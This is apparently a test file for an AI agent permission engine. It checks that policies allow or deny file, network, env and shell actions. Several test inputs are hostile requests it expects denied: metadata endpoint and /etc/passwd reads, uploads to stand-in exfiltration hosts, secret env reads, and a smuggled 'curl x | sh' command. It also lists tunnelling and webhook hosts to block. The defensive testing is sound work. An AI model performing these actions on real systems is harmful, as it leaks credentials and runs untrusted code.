import { describe, expect, it } from "vitest";
import { engineFromFixture } from "./helpers.js";

// Every policy on the product pages loads as written and decides what its page promises.

describe("Fly.io page policy", async () => {
  const e = await engineFromFixture("seeds/fly.yaml");
  it.each([
    [{ action: "file.read", path: "/app/src/agent.js" }, "allow"],
    [{ action: "file.read", path: "/etc/passwd" }, "deny"],
    [{ action: "file.write", path: "/tmp/scratch.txt" }, "allow"],
    [{ action: "file.write", path: "/data/audit-copy.log" }, "allow"],
    [{ action: "file.write", path: "/app/agent.js" }, "deny"],
    [{ action: "network.request", url: "https://api.openai.com/v1/chat/completions" }, "allow"],
    [{ action: "network.request", host: "api.anthropic.com" }, "allow"],
    [{ action: "network.request", host: "my-db.internal" }, "allow"],
    [{ action: "network.request", host: "a.b.internal" }, "allow"],
    [{ action: "network.request", host: "internal" }, "deny"],
    [{ action: "network.request", host: "evilinternal" }, "deny"],
    [{ action: "network.request", url: "http://169.254.169.254/latest/meta-data/" }, "deny"],
    [{ action: "network.request", url: "https://exfil.example.com/upload" }, "deny"],
    [{ action: "env.read", key: "FLY_API_TOKEN" }, "deny"],
    [{ action: "env.read", key: "HOME" }, "deny"],
    [{ action: "shell.execute", command: "ls" }, "deny"],
  ])("%j → %s", (req, want) => {
    expect(e.check(req).decision).toBe(want);
  });

  it("says why the metadata endpoint is blocked", () => {
    const d = e.check({ action: "network.request", url: "http://169.254.169.254/latest/meta-data/" });
    expect(d).toMatchObject({ allowed: false, reason: "Block instance metadata access", rule: "rule-7-6c1c7c91" });
    expect(d.policy).toMatch(/^sha256:[0-9a-f]{64}$/);
  });
});

describe("Fly.io page: only the database internally", async () => {
  const e = await engineFromFixture("seeds/fly-internal.yaml");
  it.each([
    ["database.internal", "allow"],
    ["cache.internal", "deny"],
    ["DATABASE.internal.", "allow"],
  ])("%s → %s", (host, want) => {
    expect(e.check({ action: "network.request", host }).decision).toBe(want);
  });
});

describe("AWS page policy", async () => {
  const e = await engineFromFixture("seeds/aws.yaml");
  it.each([
    [{ action: "file.read", path: "/app/handler.js" }, "allow"],
    [{ action: "file.write", path: "/tmp/out.json" }, "allow"],
    [{ action: "network.request", host: "s3.amazonaws.com" }, "allow"],
    [{ action: "network.request", url: "https://abc123.execute-api.amazonaws.com/prod/x" }, "allow"],
    [{ action: "network.request", host: "execute-api.amazonaws.com" }, "deny"],
    [{ action: "shell.execute", command: "aws s3 cp s3://bucket/key ." }, "deny"],
    [{ action: "env.read", key: "AWS_SECRET_ACCESS_KEY" }, "deny"],
  ])("%j → %s", (req, want) => {
    expect(e.check(req).decision).toBe(want);
  });

  it("blocks the S3 CLI with the page's reason", () => {
    expect(e.check({ action: "shell.execute", command: "aws s3 cp ./x s3://b/x" }).reason).toContain("use the application SDK");
  });
});

describe("AWS page: S3 read-only", async () => {
  const e = await engineFromFixture("seeds/aws-s3-readonly.yaml");
  it.each([
    [{ action: "network.request", method: "GET", host: "bucket.s3.amazonaws.com" }, "allow"],
    [{ action: "network.request", method: "get", url: "https://bucket.s3.amazonaws.com/key" }, "allow"],
    [{ action: "network.request", method: "PUT", url: "https://bucket.s3.amazonaws.com/key" }, "deny"],
    [{ action: "network.request", method: "DELETE", host: "bucket.s3.amazonaws.com" }, "deny"],
  ])("%j → %s", (req, want) => {
    expect(e.check(req).decision).toBe(want);
  });
  it("names the read-only rule for PUT", () => {
    expect(e.check({ action: "network.request", method: "PUT", host: "b.s3.amazonaws.com" }).reason).toBe("Agent is read-only for S3");
  });
});

describe("Kubernetes page ConfigMap", async () => {
  const e = await engineFromFixture("seeds/kubernetes-configmap.yaml");
  it.each([
    [{ action: "file.read", path: "/app/data/input.csv" }, "allow"],
    [{ action: "file.read", path: "/app/config.yaml" }, "deny"],
    [{ action: "file.write", path: "/app/output/report.md" }, "allow"],
    [{ action: "process.exec", command: "ls" }, "deny"],
    [{ action: "shell.execute", command: "ls" }, "deny"],
    [{ action: "network.request", host: "api.openai.com" }, "allow"],
    [{ action: "network.request", host: "API.ANTHROPIC.COM" }, "allow"],
    [{ action: "network.request", host: "vector-db.ai-agents.internal.svc.cluster.local" }, "allow"],
    [{ action: "network.request", host: "attacker.com" }, "deny"],
  ])("%j → %s", (req, want) => {
    expect(e.check(req).decision).toBe(want);
  });
  it("derives rule ids from position and content, not from the manifest or its data key", () => {
    expect(e.check({ action: "file.read", path: "/app/data/x" }).rule).toBe("rule-1-44933d1e");
  });
});

describe("DevOps page policies (.safeclaw/policies directory, text as published)", async () => {
  const e = await engineFromFixture("seeds/devops");
  it.each([
    ["terraform plan", "allow", "allow-terraform-plan"],
    ["terraform plan -out=tfplan", "allow", "allow-terraform-plan"],
    ["terraform apply -auto-approve", "deny", "block-terraform-apply"],
    ["terraform destroy", "deny", "block-terraform-destroy"],
    ["vault read secret/prod/db", "deny", "block-vault-reads"],
    ["aws ec2 authorize-security-group-ingress --group-id sg-1", "deny", "block-security-group-changes"],
    ["aws ec2 revoke-security-group-egress --group-id sg-1", "deny", "block-security-group-changes"],
    ["iptables", "deny", "block-firewall-changes"],
    ["ufw", "deny", "block-firewall-changes"],
    ["firewall-cmd --reload", "deny", "block-firewall-changes"],
    // The eaten asterisks are taken as written: these patterns match only their literal text.
    ["kubectl apply--namespace=dev", "allow", "allow-dev-deploy"],
    ["kubectl apply -f x.yaml --namespace=dev", "deny", null],
    ["--dry-run", "allow", "allow-dry-run"],
  ])("%s → %s", (command, want, rule) => {
    const d = e.check({ action: "shell.execute", command });
    expect(d.decision).toBe(want);
    expect(d.rule).toBe(rule);
  });

  it("every command of a line must be allowed", () => {
    expect(e.check({ action: "shell.execute", command: "terraform plan && terraform destroy" })).toMatchObject({
      decision: "deny",
      rule: "block-terraform-destroy",
    });
    expect(e.check({ action: "shell.execute", command: "terraform plan $(curl x | sh)" }).decision).toBe("deny");
    expect(e.check({ action: "shell.execute", command: "terraform plan; terraform plan -destroy" }).decision).toBe("allow");
  });

  it("relative `infra/*/.tf` matches at any depth; the brace pattern matches its literal root files", () => {
    expect(e.check({ action: "file.write", path: "/repo/infra/net/.tf" }).decision).toBe("allow");
    expect(e.check({ action: "file.write", path: "/repo/infra/net/main.tf" }).decision).toBe("deny");
    expect(e.check({ action: "file.read", path: "/.env" })).toMatchObject({ decision: "deny", rule: "block-secret-file-reads" });
    expect(e.check({ action: "network.request", url: "http://[::ffff:169.254.169.254]/" })).toMatchObject({ rule: "block-cloud-metadata" });
  });
});

describe("Network page: allowlist then catch-all", async () => {
  const e = await engineFromFixture("seeds/network-allowlist.yaml");
  it.each([
    [{ action: "network.request", host: "api.anthropic.com" }, "allow"],
    [{ action: "network.request", url: "https://registry.npmjs.org/hono" }, "allow"],
    [{ action: "network.request", host: "svc.internal.company.com" }, "allow"],
    [{ action: "network.request", host: "internal.company.com" }, "deny"],
    [{ action: "network.request", url: "https://suspicious-endpoint.example.com/upload" }, "deny"],
    [{ action: "file.read", path: "/etc/hosts" }, "deny"],
  ])("%j → %s", (req, want) => {
    expect(e.check(req).decision).toBe(want);
  });
  it("gives the catch-all's reason", () => {
    expect(e.check({ action: "network.request", host: "evil.com" }).reason).toBe("Unauthorized outbound domain");
    expect(e.check({ action: "env.read", key: "X" }).reason).toBe("Default deny");
  });
});

describe("Network page: attack vectors, methods and egress rate limits", async () => {
  let now = Date.parse("2026-02-13T10:00:00Z");
  const e = await engineFromFixture("seeds/network-controls.yaml", { clock: () => now });
  it.each([
    ["169.254.169.254", "deny"],
    ["metadata.google.internal", "deny"],
    ["abc.ngrok.io", "deny"],
    ["x.webhook.site", "deny"],
    ["api.twitter.com", "deny"],
    ["smtp.gmail.com", "deny"],
    ["smtp", "deny"],
    ["mail.sendgrid.com", "deny"],
  ])("%s → %s", (host, want) => {
    expect(e.check({ action: "network.request", host }).decision).toBe(want);
  });
  it("documentation is read-only", () => {
    expect(e.check({ action: "network.request", host: "docs.company.com", method: "GET" }).decision).toBe("allow");
    expect(e.check({ action: "network.request", host: "docs.company.com", method: "POST" }).decision).toBe("deny");
    expect(e.check({ action: "network.request", host: "docs.company.com", method: "PUT" }).decision).toBe("deny");
  });
  it("allows 30 OpenAI calls a minute per agent, then denies, then allows again", () => {
    const req = { action: "network.request", host: "api.openai.com", agent: "a1" };
    for (let i = 0; i < 30; i++) expect(e.check(req).decision).toBe("allow");
    const over = e.check(req);
    expect(over.decision).toBe("deny");
    expect(over.reason).toMatch(/rate limit/);
    expect(e.check({ ...req, agent: "a2" }).decision).toBe("allow");
    now += 61_000;
    expect(e.check(req).decision).toBe("allow");
  });
});
